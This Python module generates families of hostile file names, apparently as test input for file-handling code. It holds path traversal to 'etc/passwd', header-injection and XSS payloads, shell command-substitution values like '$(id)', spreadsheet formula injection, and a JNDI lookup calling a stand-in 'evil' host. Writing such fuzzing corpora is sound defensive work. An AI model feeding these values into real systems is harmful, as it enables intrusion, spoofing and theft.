"""Hostile names of files, by family: what attackers, old systems and careless programs send."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

BIDI: Final = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
INVISIBLE: Final = (
    "\u00ad\u034f\u115f\u180e\u200b\u200c\u200d\u2060\u2063\u3164\ufe0f\ufeff\U000e0001\U000e0041"
)
BLANKS: Final = (
    "\u00a0\u1680\u2000\u2003\u2009\u202f\u205f\u3000\t\n\x0b\x0c\r\x1c\x1d\x1e\x1f\x85\u2028\u2029"
)


def traversal() -> Iterator[str]:
    ways = [
        "../", "../../../../", "..\\", "..\\..\\..\\", "/", "//", "\\", "\\\\server\\share\\", "C:\\", "C:", "./", ".\\",
        "....//", "..././", "..;/", "..%2f", "..%5c", "%2e%2e/", "%2e%2e%2f", "%252e%252e%252f", "..%c0%af", "..%00/",
        "file:///", "~/", "~root/", "\uff0e\uff0e\uff0f", "\u2024\u2024/", "..\u2215", "..\u2044", "..\u29f8", "\\\\?\\C:\\",
        "\\\\.\\", "..\x00/", "..\r/", ".\u200b./", "\uff0e\uff0e\u005c",
    ]  # fmt: skip
    for way in ways:
        yield way + "etc/passwd"
        yield "plans/" + way + "home.pdf"


def controls() -> Iterator[str]:
    for number, char in enumerate([*map(chr, range(32)), "\x7f", *map(chr, range(0x80, 0xA0))]):
        yield ("{}plan.pdf", "pl{}an.pdf", "plan{}.pdf", "plan.pdf{}")[number % 4].format(char)


def line_breaks() -> Iterator[str]:
    for ending in (
        "\r\n",
        "\n",
        "\r",
        "\x85",
        "\u2028",
        "\x0b",
        "%0d%0a",
        "\u560d\u560a",
        "\\r\\n",
        "&#13;&#10;",
        "\r\n\r\n",
    ):
        yield f"a{ending}Set-Cookie: evil=1.pdf"
        yield f'a"{ending}Location: //evil.example/{ending}"b.pdf'
    yield "a\r\n\r\n<script>alert(1)</script>.pdf"
    yield "a\r\n\tfolded.pdf"
    yield "a\n Content-Type: text/html.pdf"


def parameters() -> Iterator[str]:
    yield from (
        'quo"te.pdf', 'a"; filename="evil.html', 'a\\"; filename="evil.html', "a\\", 'a"', '"', '""', "\\\\", 'a\\"b.pdf',
        "a; filename*=UTF-8''evil.html", "filename*=UTF-8''evil.html", "filename*0=ev; filename*1=il.html", "a;b.pdf",
        ";", "a,b.pdf", "a=b.pdf", "'single'.pdf", "UTF-8''evil%2ehtml", "utf-8'en'%e2%82%ac", "=?utf-8?B?ZXZpbC5odG1s?=",
        "=?utf-8?Q?evil=2Ehtml?=", "a%22b.pdf", "a%00.pdf", "%", "%%", "%zz.pdf", "a%", "100%.pdf", "a(b).pdf", "a[b].pdf",
        "inline", "attachment; filename=x", "a\"\"; x=\"", "name=\"file\"; filename=\"x", "a`b.pdf", "a'b\"c.pdf",
    )  # fmt: skip


def bidi() -> Iterator[str]:
    for mark in BIDI:
        yield f"{mark}fdp.exe"
        yield f"invoice{mark}fdp.exe"
        yield f"invoice.pdf{mark}"


def invisible() -> Iterator[str]:
    for mark in INVISIBLE:
        yield f"in{mark}voice.pdf"
        yield f"{mark}.pdf"


def devices() -> Iterator[str]:
    endings = ("", ".pdf", ".", " ", " .txt", ".tar.gz", "..", ":", ":x", "\u00a0", ". .pdf")
    stems = (
        "con",
        "PRN",
        "Aux",
        "nul",
        "com1",
        "COM9",
        "com\u00b9",
        "lpt1",
        "LPT\u00b2",
        "conin$",
        "CONOUT$",
        "clock$",
    )
    for number, stem in enumerate(stems):
        for ending in (
            endings[number % 11],
            endings[(number * 3 + 1) % 11],
            endings[(number * 5 + 2) % 11],
        ):
            yield stem + ending
    yield "\u202econ.pdf"
    yield "con\x00.pdf"
    yield "../nul"
    yield " aux"
    yield ".prn"


def lengths() -> Iterator[str]:
    for unit in ("x", "ü", "e\u0301", "設", "😀", "\u05d0", ".", " ", "-", "%"):
        for size in (255, 256, 300, 2000):
            yield unit * size + ".pdf"
    yield "x" * 300
    yield "x" * 240 + "." + "y" * 60
    yield "con" + " " * 300 + ".pdf"
    yield "a." * 200
    yield "😀" * 63 + "xxx.pdf"


def combining() -> Iterator[str]:
    yield "e" + "\u0301" * 120 + ".pdf"
    yield "".join(f"{c}\u0300\u0316\u0334" for c in "zalgo") + ".pdf"
    yield "u\u0308bersicht.pdf"
    yield "\u1112\u1161\u11ab.pdf"
    yield "\u212b\u2126.pdf"
    yield "\u0301.pdf"
    yield "\ufb01nal.pdf"
    yield "a\x00\u0301.pdf"
    yield "o\u202e\u0308.pdf"


def broken_text() -> Iterator[str]:
    raw = (
        b"\xc0\xae\xc0\xae\xc0\xafpasswd", b"\xe0\x80\xaf.pdf", b"\xf0\x80\x80\xaf.pdf", b"\xff\xfe.pdf", b"a\x80b.pdf",
        b"\xed\xa0\x80.pdf", b"\xc3.pdf", b"pr\xfcfung.pdf", b"\xf4\x90\x80\x80.pdf", b"\xfc\x80\x80\x80\x80\xaf",
    )  # fmt: skip
    for data in raw:
        yield data.decode("utf-8", "surrogateescape")
        yield data.decode("utf-8", "replace")
        yield data.decode("latin-1")
    for lone in ("\ud800", "\udfff", "\udc80\udc81", "\udbff", "\ud83d.", "\ude00\ud83d"):
        yield f"a{lone}b.pdf"
    yield "\uffff.pdf"
    yield "\ufffe.pdf"
    yield "\U0010ffff.pdf"
    yield "\ue000.pdf"


def right_to_left() -> Iterator[str]:
    yield from (
        "חשבונית.pdf",
        "فاتورة.pdf",
        "invoice פdf.exe",
        "ABC.\u05d2\u05d1\u05d0.exe",
        "٣.pdf",
        "‮cod.exe",
        "שלום (1).pdf",
    )


def dots_and_blanks() -> Iterator[str]:
    yield from ("", " ", ".", "..", "...", ". .", "-", "--", "_", "-rf", "--help", "-o=x.pdf", ".htaccess", ".git", "..pdf", "...pdf",
                ".pdf", "pdf.", "a.", "a..", "a...", "a. ", "a .", " a", "a ", " . a . ", "a.pdf.", "a.pdf ", "a.pdf. .", "a  b.pdf")  # fmt: skip
    for blank in BLANKS:
        yield f"{blank}a{blank}b.pdf{blank}"
        yield blank


def homographs() -> Iterator[str]:
    yield from ("р\u0430yment.pdf", "\uff50\uff44\uff46.\uff50\uff44\uff46", "invoice\uff0epdf", "invoice\u2024pdf.exe", "\u0399nvoice.pdf",
                "a\u2236b.pdf", "a\u02d0b.pdf", "a\uff02b.pdf", "a\u2033b.pdf", "a\uff1bb.pdf", "\uff1cscript\uff1e.pdf", "a\u037eb.pdf", "K\u212a.pdf")  # fmt: skip


def emoji() -> Iterator[str]:
    yield from (
        "😀.pdf",
        "👩‍👩‍👧‍👦.pdf",
        "🇩🇪.pdf",
        "👍🏿.pdf",
        "1️⃣.pdf",
        "🏴\U000e0067\U000e0062\U000e007f.pdf",
        "❤️.pdf",
    )


def commands() -> Iterator[str]:
    yield from ("$(id).pdf", "`id`.pdf", "|id", "a|b.pdf", "a&b.pdf", "a>b.pdf", "a<b.pdf", "*", "?", "*.pdf", "[a-z].pdf", "{a,b}.pdf", "!x.pdf",
                "#x.pdf", "%PATH%.pdf", "$HOME.pdf", "a\nid\n.pdf", "'; DROP TABLE files; --.pdf", "=1+1.pdf", "@SUM(A1).pdf", "+cmd|' /C calc'!A0",
                "-2+3.pdf", "=HYPERLINK(\"//evil\").csv", "${jndi:ldap://evil}.pdf", "{{7*7}}.pdf", "{% raw %}.pdf", "%s%n.pdf", "{0}{actor}.pdf")  # fmt: skip


def markup() -> Iterator[str]:
    yield from ("<script>alert(1)</script>.pdf", "\"><img src=x onerror=alert(1)>.pdf", "&lt;b&gt;.pdf", "&#60;b.pdf", "javascript:alert(1)",
                "data:text/html,x", "//evil.example/x.pdf", "https://evil.example/", "?a=b.pdf", "a#b.pdf", "a?b.pdf", "<!--.pdf", "[x](y).pdf", "**a**.pdf")  # fmt: skip


def endings() -> Iterator[str]:
    yield from ("a.html", "a.HTML", "a.svg", "a.svgz", "a.xhtml", "a.js", "a.mjs", "a.swf", "a.mht", "a.hta", "a.pdf.exe", "a.exe.pdf", "a.php;.jpg", "a.asp;.jpg",
                "a.html\x00.pdf", "a.php%00.jpg", "a.pdf::$DATA", "a.pdf:evil.exe", "a.pdf:$I30:$INDEX_ALLOCATION", "web.config", "crossdomain.xml",
                "robots.txt", "index.html", "desktop.ini", "autorun.inf", "Thumbs.db", "a.lnk", "a.url", "a.scr", "a.tar.gz", "a.\u0440df", "a.p\u200bdf")  # fmt: skip


FAMILIES: Final = {
    family.__name__: tuple(dict.fromkeys(family()))
    for family in (
        traversal, controls, line_breaks, parameters, bidi, invisible, devices, lengths, combining, broken_text, right_to_left,
        dots_and_blanks, homographs, emoji, commands, markup, endings,
    )
}  # fmt: skip
NAMES: Final = tuple(dict.fromkeys(name for family in FAMILIES.values() for name in family))
